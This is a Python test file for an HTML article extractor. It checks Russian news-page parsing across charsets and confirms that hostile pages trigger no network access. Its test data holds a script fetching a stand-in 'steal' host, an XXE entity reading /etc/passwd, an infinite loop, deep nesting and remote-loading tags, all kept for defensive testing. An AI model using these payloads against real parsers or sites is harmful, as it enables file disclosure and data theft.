"""The article is taken out of a page; the page itself can do nothing."""

import socket
from datetime import date

import pytest
import trafilatura  # noqa: F401  (before a test forbids sockets: ssl is derived from them)

from razbor.intake.files import read_file
from razbor.intake.page import read_html

PAGE = """<!DOCTYPE html>
<html lang="ru"><head><meta charset="{charset}">
<title>Мост через Вилу откроют весной — Белозорские вести</title>
<meta property="og:title" content="Мост через Вилу откроют весной">
<meta property="og:site_name" content="Белозорские вести">
<meta property="article:published_time" content="2025-03-14T09:00:00+05:00">
</head><body>
<nav><ul><li><a href="/">Главная</a></li><li><a href="/sport">Спорт</a></li></ul></nav>
<article><h1>Мост через Вилу откроют весной</h1>
<p>Аким Белозорска Дана Ержанова осмотрела строительство моста через реку Вилу и поручила
завершить работы до конца апреля, сообщает пресс-служба акимата.</p>
<p>«Движение по мосту начнётся 12 мая», – сказала она на совещании со строителями и
представителями подрядчика, добавив, что деньги на освещение уже выделены.</p>
<p>Мост длиной 840 метров соединит два района города и разгрузит старую переправу, которой
пользуются около двадцати тысяч человек в день.</p></article>
<footer>© Белозорские вести. Все права защищены.</footer>
<script>fetch("http://example.invalid/steal")</script>
</body></html>"""


@pytest.mark.parametrize("charset", ["utf-8", "windows-1251", "koi8-r"])
def test_a_news_page(tmp_path, charset):
    path = tmp_path / "page.html"
    path.write_bytes(PAGE.format(charset=charset).encode(charset, "xmlcharrefreplace"))
    opened = read_file(path)
    paragraphs = opened.article.text.split("\n\n")
    assert opened.encoding == charset
    assert paragraphs[0] == opened.article.title == "Мост через Вилу откроют весной"
    assert paragraphs[1].startswith("Аким Белозорска Дана Ержанова осмотрела")
    assert paragraphs[3].endswith("тысяч человек в день.")
    assert len(paragraphs) == 4
    assert opened.article.published == date(2025, 3, 14)
    assert opened.article.source == "Белозорские вести"


def test_a_page_is_known_by_its_content_and_a_given_date_wins(tmp_path):
    path = tmp_path / "saved"
    path.write_text(PAGE.format(charset="utf-8"), encoding="utf-8")
    opened = read_file(path, published=date(2020, 1, 1))
    assert opened.article.published == date(2020, 1, 1)
    assert "Главная" not in opened.article.text


def test_a_piece_of_a_page_is_taken_whole():
    opened = read_html("<h2>Указ</h2><p>Президент подписал указ.</p><p>Он\nвступил в силу.</p>")
    assert opened.article.text == "Указ\n\nПрезидент подписал указ.\n\nОн вступил в силу."
    assert opened.article.published is None


HOSTILE = [
    "<html><body><p>Текст статьи для чтения<script>while(1);</script>",
    (
        '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        "<html><body><p>Текст статьи для чтения &x;</p></body></html>"
    ),
    "<html>" + "<div>" * 5000 + "Текст статьи для чтения",
    (
        '<html><head><meta http-equiv="refresh" content="0;url=http://example.invalid"></head>'
        '<body><img src="http://example.invalid/a.png"><iframe src="http://example.invalid">'
        "</iframe><p>Текст статьи для чтения</p></body></html>"
    ),
]


@pytest.mark.parametrize("page", HOSTILE)
def test_a_hostile_page_loads_nothing(monkeypatch, page):
    def refuse(*_args, **_kwargs):
        raise AssertionError("the page reached for the net")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    text = read_html(page).article.text
    assert "Текст статьи для чтения" in text
    assert "root:" not in text
    assert "while" not in text
